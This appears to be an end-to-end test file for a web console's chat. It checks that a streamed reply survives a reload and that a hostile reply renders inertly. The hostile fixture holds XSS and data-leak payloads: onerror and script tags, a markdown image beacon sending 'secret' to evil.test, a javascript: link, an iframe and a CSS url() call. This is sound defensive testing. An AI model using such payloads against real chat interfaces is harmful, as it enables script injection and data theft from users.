import { uniqueContent } from '../support/chat-client';
import { type ConsoleApp, startConsoleApp, violations } from '../support/console-app';
import { ConsoleChat } from '../support/console-chat';

const HOSTILE = [
  '<img src="https://evil.test/a.png" onerror="window.ran = 1"><script>window.ran = 1</script>',
  '![pixel](https://evil.test/b.png?q=secret) [click](javascript:window.ran=1)',
  '<iframe src="https://evil.test/c"></iframe><style>body{background:url(https://evil.test/d)}</style>',
  '>'.repeat(10_000),
  'Still here.',
].join('\n\n');

describe('the chat of the console when something is against it', () => {
  let app: ConsoleApp;
  let chat: ConsoleChat;

  beforeAll(async () => {
    app = await startConsoleApp();
    chat = await ConsoleChat.visit(app, {}, { theme: 'dark' });
  });

  afterAll(() => app.close());

  it('goes on with a reply after a reload in its middle, and shows it in another window', async () => {
    const content = uniqueContent();
    await app.model.script({ key: content, steps: [{ text: 'Half' }, { hold: content }, { text: ' and half' }] });
    const id = await chat.openNew();
    await chat.send(content);
    await chat.replies.getByText('Half', { exact: true }).waitFor();
    await chat.page.reload();
    await chat.replies.getByText('Half', { exact: true }).waitFor();
    const other = await chat.another();
    await other.open(`${app.origin}/console/chat/${id}`);
    await other.replies.getByText('Half', { exact: true }).waitFor();
    await app.model.release(content);
    await chat.waitForEnd();
    await other.waitForEnd();
    await chat.expectLine(id, content, 'Half and half');
    await other.expectLine(id, content, 'Half and half');
    await other.page.close();
  });

  it('runs nothing of a reply, and asks nobody else for anything', async () => {
    const strangers: string[] = [];
    chat.page.on('request', (request) => {
      if (!request.url().startsWith(app.origin)) strangers.push(request.url());
    });
    const content = uniqueContent('hostile');
    await app.model.script({ key: content, steps: [{ text: HOSTILE }] });
    await chat.openNew('<img src=x onerror="window.ran = 1">\u202egnp');
    await chat.send(content);
    await chat.waitForEnd();
    await chat.replies.getByText('Still here.').waitFor();
    expect(await chat.page.evaluate('window.ran')).toBeUndefined();
    expect(strangers).toEqual([]);
    expect(await chat.replies.locator('iframe, script, style, .markdown img').count()).toBe(0);
    expect(await violations(chat.page)).toEqual([]);
  });
});
